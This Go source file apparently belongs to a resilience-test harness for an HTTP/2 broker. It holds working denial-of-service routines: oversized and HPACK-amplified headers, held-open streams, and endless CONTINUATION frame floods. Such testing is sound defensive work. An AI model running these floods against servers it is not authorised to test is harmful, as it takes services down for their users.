// SPDX-License-Identifier: Apache-2.0

package main

import (
	"bytes"
	"context"
	"fmt"
	"strings"

	"golang.org/x/net/http2"
)

// Sizes of headers that are nearly as large as the broker accepts: 64 KiB, with 32 bytes
// for each field (RFC 7541, section 4.1).
const (
	headerBytes = 60 << 10
	fieldExtra  = 32
)

// largeHeaders take memory as long as their calls last, or longer.
func largeHeaders() []attack {
	one := [][2]string{{"x-large", strings.Repeat("v", headerBytes)}}
	var tiny [][2]string
	for i := range headerBytes / (fieldExtra + 5) {
		tiny = append(tiny, [2]string{fmt.Sprintf("x%03x", i), "v"})
	}
	// The encoder of HPACK sends a field that it knows as one byte or two.
	short := strings.Repeat("v", 3000)
	var same [][2]string
	for range headerBytes / (len(short) + fieldExtra + 6) {
		same = append(same, [2]string{"x-same", short})
	}
	return []attack{
		{
			name: "headers-large", about: "seven connections with 256 streams each whose headers have one field of 60 KiB", tested: true,
			run: withHeaders(one, methodHash, methodExchange),
		},
		{
			name: "headers-tiny", about: "seven connections with 256 streams each whose headers have 1,600 tiny fields", tested: true,
			run: withHeaders(tiny, methodHash, methodExchange),
		},
		{
			name: "headers-indexed", about: "seven connections with 256 streams each whose 60 KiB of headers are a few bytes by HPACK",
			run: withHeaders(same, methodHash, methodHashStream),
		},
		{
			name: "headers-watch", about: "seven connections with 256 streams of Health/Watch each with 60 KiB of headers",
			run: withHeaders(one, methodWatch),
		},
		{
			name: "headers-unknown-method", about: "16 connections with calls of a method that is not there, with 60 KiB of headers",
			run: overWires(16, manner{}, func(w *wire, _ int) error {
				for {
					if _, err := w.call(methodUnknown, one...); err != nil {
						return err
					}
					if err := w.drain(64); err != nil {
						return err
					}
				}
			}),
		},
		{
			name: "continuation-empty", about: "16 connections with headers that go on in empty frames for ever", tested: true,
			run: continuation(nil),
		},
		{
			name: "continuation-full", about: "16 connections with headers that go on in frames of 16 KiB for ever", tested: true,
			run: continuation(bytes.Repeat([]byte{0x00, 0x01, 'a', 0x01, 'b'}, frameSize/5)), // a: b, again and again
		},
	}
}

// withHeaders opens as many streams on each connection as there may be, and holds them.
func withHeaders(fields [][2]string, methods ...string) func(context.Context, *target) error {
	return overWires(fullConnections, manner{}, func(w *wire, i int) error {
		for j := range 256 {
			if _, err := w.call(methods[(i+j)%len(methods)], fields...); err != nil {
				return err
			}
			w.target.tally.count("streams opened", 1)
		}
		return w.hold()
	})
}

// continuation sends headers that never end, in frames with the same fragment.
func continuation(fragment []byte) func(context.Context, *target) error {
	return overWires(16, manner{}, func(w *wire, _ int) error {
		err := w.write(func(f *http2.Framer) error {
			block, err := w.fieldBlock(methodHash)
			if err != nil {
				return err
			}
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: w.nextStream(), BlockFragment: block})
		})
		for err == nil {
			err = w.write(func(f *http2.Framer) error {
				for range 16 {
					if err := f.WriteContinuation(1, false, fragment); err != nil {
						return err
					}
				}
				return nil
			})
		}
		return err
	})
}
